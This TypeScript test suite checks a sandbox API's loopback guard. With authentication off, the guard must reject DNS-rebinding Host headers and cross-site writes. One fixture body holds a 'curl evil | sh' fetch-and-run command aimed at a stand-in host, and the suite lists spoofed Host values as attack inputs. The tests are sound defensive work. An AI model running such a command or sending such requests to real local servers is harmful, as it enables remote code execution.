/**
 * An open (auth off) loopback server against web pages, over a real loopback server: only loopback Host values are
 * served (DNS rebinding gets 403), and a write carrying a foreign Origin or Sec-Fetch-Site: cross-site is refused,
 * while curl-like clients, the SDK and allowed origins go on working.
 * On the fake (loopback-guard.test.ts) and on Docker (loopback-guard.docker.test.ts).
 */
import { request } from 'node:http';
import { Burrow } from '@burrow/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { hostOf, isLoopbackHost } from './loopback-guard.js';
import { startApi, type Harness, type RuntimeKind } from './test-support/harness.js';

export function loopbackGuardSuite(kind: RuntimeKind): void {
  let open: Harness;
  let keyed: Harness;
  beforeAll(async () => {
    open = await startApi({
      runtime: kind,
      auth: { enabled: false, apiKeys: [] },
      allowedOrigins: ['http://dashboard.example:3000'],
    });
    keyed = await startApi({ runtime: kind });
  });
  afterAll(async () => {
    await open.close();
    await keyed.close();
  });

  interface Answer {
    status: number;
    body: string;
  }

  /** A raw request with exactly these headers (node:http lets a test set Host, which fetch does not). */
  function send(
    base: string,
    method: string,
    path: string,
    headers: Record<string, string>,
    body?: string,
  ): Promise<Answer> {
    const url = new URL(path, base);
    return new Promise((resolve, reject) => {
      const req = request(
        {
          host: url.hostname,
          port: url.port,
          method,
          path: url.pathname + url.search,
          headers,
          setHost: false,
        },
        (response) => {
          let text = '';
          response.setEncoding('utf8');
          response.on('data', (chunk: string) => (text += chunk));
          response.on('end', () => resolve({ status: response.statusCode ?? 0, body: text }));
        },
      );
      req.once('error', reject);
      req.end(body);
    });
  }

  function port(harness: Harness): string {
    return new URL(harness.url).port;
  }

  const CREATE = { 'content-type': 'application/json' };

  describe('with auth off: Host', () => {
    it.each(['localhost', '127.0.0.1', '[::1]', '127.0.0.2', 'LOCALHOST'])(
      'serves Host %s with and without a port',
      async (host) => {
        for (const value of [host, `${host}:${port(open)}`]) {
          const answer = await send(open.url, 'GET', '/api/v1/sandboxes', { host: value });
          expect(answer.status).toBe(200);
        }
      },
    );

    it.each([
      'evil.example',
      'evil.example:8080',
      'localhost.evil.example',
      '127.0.0.1.nip.io',
      '10.0.0.5',
      '0.0.0.0',
      '[::ffff:127.0.0.1]',
    ])('refuses Host %s with 403 saying why, before doing anything', async (host) => {
      const before = open.engine.list().length;
      const answer = await send(open.url, 'POST', '/api/v1/sandboxes', { host, ...CREATE }, '{}');
      expect(answer.status).toBe(403);
      const body = JSON.parse(answer.body) as { error: string; code: string };
      expect(body.code).toBe('FORBIDDEN');
      expect(body.error).toMatch(/is not this server: with authentication off/);
      expect(body.error).toMatch(/DNS rebinding/);
      expect(open.engine.list()).toHaveLength(before);
    });

    it('serves the host of an allowed origin', async () => {
      const answer = await send(open.url, 'GET', '/api/v1/sandboxes', { host: 'dashboard.example:3000' });
      expect(answer.status).toBe(200);
    });

    it('leaves a server with auth on alone (the key is the guard there)', async () => {
      const answer = await send(keyed.url, 'GET', '/api/v1/sandboxes', {
        host: 'burrow.internal.example',
        'x-api-key': 'test-key-0123456789',
      });
      expect(answer.status).toBe(200);
    });
  });

  describe('with auth off: cross-site writes', () => {
    const host = () => `127.0.0.1:${port(open)}`;

    it.each([
      ['a foreign Origin', { origin: 'https://evil.example' }],
      ['a null Origin (sandboxed frame, file:)', { origin: 'null' }],
      ['a same-site but other-port Origin', { origin: 'http://localhost:1234' }],
      ['Sec-Fetch-Site: cross-site', { 'sec-fetch-site': 'cross-site' }],
    ])('refuses a create with %s', async (_name, headers) => {
      const before = open.engine.list().length;
      // The "simple" request a page can send without a preflight: a form-like content type.
      const answer = await send(
        open.url,
        'POST',
        '/api/v1/sandboxes',
        { host: host(), 'content-type': 'text/plain', ...headers },
        '{"image":"attacker/image","cmd":["sh","-c","curl evil | sh"]}',
      );
      expect(answer.status).toBe(403);
      expect((JSON.parse(answer.body) as { error: string }).error).toMatch(/^cross-site request refused/);
      expect(open.engine.list()).toHaveLength(before);
    });

    it('refuses exec, file writes and deletes the same way', async () => {
      const id = await open.sandbox();
      const evil = { host: host(), origin: 'https://evil.example' };
      expect(
        (await send(open.url, 'POST', `/api/v1/sandboxes/${id}/exec`, evil, '{"cmd":["true"]}')).status,
      ).toBe(403);
      expect(
        (await send(open.url, 'PUT', `/api/v1/sandboxes/${id}/files?path=/tmp/x`, evil, 'x')).status,
      ).toBe(403);
      expect((await send(open.url, 'DELETE', `/api/v1/sandboxes/${id}`, evil)).status).toBe(403);
      expect(open.engine.list().some((sandbox) => sandbox.id === id)).toBe(true);
    });

    it('lets reads through (the browser keeps their answers from the page) and allowed origins write', async () => {
      expect(
        (await send(open.url, 'GET', '/api/v1/sandboxes', { host: host(), origin: 'https://evil.example' }))
          .status,
      ).toBe(200);
      const allowed = await send(
        open.url,
        'POST',
        '/api/v1/sandboxes',
        { host: host(), origin: 'http://dashboard.example:3000', 'sec-fetch-site': 'cross-site', ...CREATE },
        '{}',
      );
      expect(allowed.status).toBe(201);
      const own = await send(
        open.url,
        'POST',
        '/api/v1/sandboxes',
        { host: host(), origin: `http://${host()}`, 'sec-fetch-site': 'same-origin', ...CREATE },
        '{}',
      );
      expect(own.status).toBe(201);
    });

    it('serves curl-like clients and the SDK, which send neither header', async () => {
      const curlLike = await send(open.url, 'POST', '/api/v1/sandboxes', { host: host(), ...CREATE }, '{}');
      expect(curlLike.status).toBe(201);
      const viaFetch = await fetch(`${open.url}/api/v1/sandboxes`, {
        method: 'POST',
        body: '{}',
        headers: CREATE,
      });
      expect(viaFetch.status).toBe(201);
      const sandbox = await new Burrow({ url: open.url }).create();
      expect((await sandbox.commands.run(['echo', 'ok'])).stdout).toBe('ok\n');
    });
  });

  describe('Host parsing', () => {
    it.each([
      ['localhost:8080', 'localhost'],
      ['[::1]:8080', '[::1]'],
      ['[::1]', '[::1]'],
      ['127.0.0.1', '127.0.0.1'],
      ['Example.COM:80', 'example.com'],
    ])('%s -> %s', (header, host) => {
      expect(hostOf(header)).toBe(host);
    });

    it('knows loopback hosts', () => {
      expect(isLoopbackHost('127.255.0.1')).toBe(true);
      expect(isLoopbackHost('127.256.0.1')).toBe(false);
      expect(isLoopbackHost('[::2]')).toBe(false);
      expect(isLoopbackHost('localhost.')).toBe(false);
    });
  });
}
